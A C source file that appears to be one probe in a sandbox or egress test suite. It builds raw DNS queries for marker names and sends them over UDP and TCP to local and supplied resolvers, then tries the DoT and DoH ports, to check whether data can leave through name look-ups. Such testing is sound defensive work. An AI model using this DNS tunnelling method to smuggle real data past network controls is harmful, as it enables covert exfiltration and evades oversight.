/* ATTACKS 17: data carried out in name look-ups. Only the name server's owner knows what arrived.
 * row_17_dns PORT NAME [ADDRESS…]: queries of many kinds for data.NAME to 127.0.0.1:PORT and to port 53
 * of each ADDRESS, over UDP and TCP; then connections to the DoT and DoH ports of each. */
#include "attack.h"
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>

static unsigned char packet[2 + 512];

static size_t query(const char *name, unsigned type) {
	unsigned char *p = packet + 2, *start = p;
	const char *label = name;
	memset(packet, 0, sizeof packet);
	*p++ = 0x12, *p++ = (unsigned char)type, *p++ = 1, p += 1, *p++ = 0, *p++ = 1, p += 6;
	while (*label) {
		size_t length = strcspn(label, ".");
		*p++ = (unsigned char)length;
		memcpy(p, label, length);
		p += length, label += length + (label[length] == '.');
	}
	*p++ = 0, *p++ = (unsigned char)(type >> 8), *p++ = (unsigned char)type, *p++ = 0, *p++ = 1;
	packet[0] = (unsigned char)((p - start) >> 8), packet[1] = (unsigned char)(p - start);
	return (size_t)(p - start);
}

static bool answered(int fd) {
	struct pollfd poller = { fd, POLLIN, 0 };
	char text[512];
	return poll(&poller, 1, 50) == 1 && recv(fd, text, sizeof text, 0) > 12;
}

static void ask(const char *address, int port, const char *name, unsigned type) {
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	size_t size = query(name, type);
	struct timeval patience = { 1, 0 };
	int fd;
	inet_pton(AF_INET, address, &server.sin_addr);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (sendto(fd, packet + 2, size, 0, (void *)&server, sizeof server) > 0)
		printf("udp %s:%d type %u %s\n", address, port, type, answered(fd) ? "answered" : "sent");
	close(fd);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (connect(fd, (void *)&server, sizeof server) == 0 && send(fd, packet + 2, size, 0) > 0)
		printf("connected udp %s:%d type %u %s\n", address, port, type, answered(fd) ? "answered" : "sent");
	close(fd);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
	if (connect(fd, (void *)&server, sizeof server) == 0 && send(fd, packet, size + 2, MSG_NOSIGNAL) > 0)
		printf("tcp %s:%d type %u %s\n", address, port, type, answered(fd) ? "answered" : "sent");
	close(fd);
}

static void reach(const char *address, int port) {
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct timeval patience = { 1, 0 };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	inet_pton(AF_INET, address, &server.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
	tried(connect(fd, (void *)&server, sizeof server) == 0, "connect %s:%d", address, port);
	close(fd);
}

int main(int argc, char **argv) {
	const unsigned types[] = { 1, 28, 16, 15, 10, 5, 12, 33, 65, 255, 252 };
	struct addrinfo *found = NULL;
	size_t t;
	int i;
	if (argc < 3)
		usage("row_17_dns PORT NAME [ADDRESS…]");
	for (t = 0; t < sizeof types / sizeof *types; t++) {
		ask("127.0.0.1", atoi(argv[1]), at("data%zu.%s", t, argv[2]), types[t]);
		ask("127.0.0.1", 53, at("own%zu.%s", t, argv[2]), types[t]);
		for (i = 3; i < argc; i++)
			ask(argv[i], 53, at("far%zu.%s", t, argv[2]), types[t]);
	}
	if (getaddrinfo(at("libc.%s", argv[2]), "80", NULL, &found) == 0)
		freeaddrinfo(found);
	for (i = 3; i < argc; i++) {
		reach(argv[i], 853);
		reach(argv[i], 443);
	}
	return finish();
}
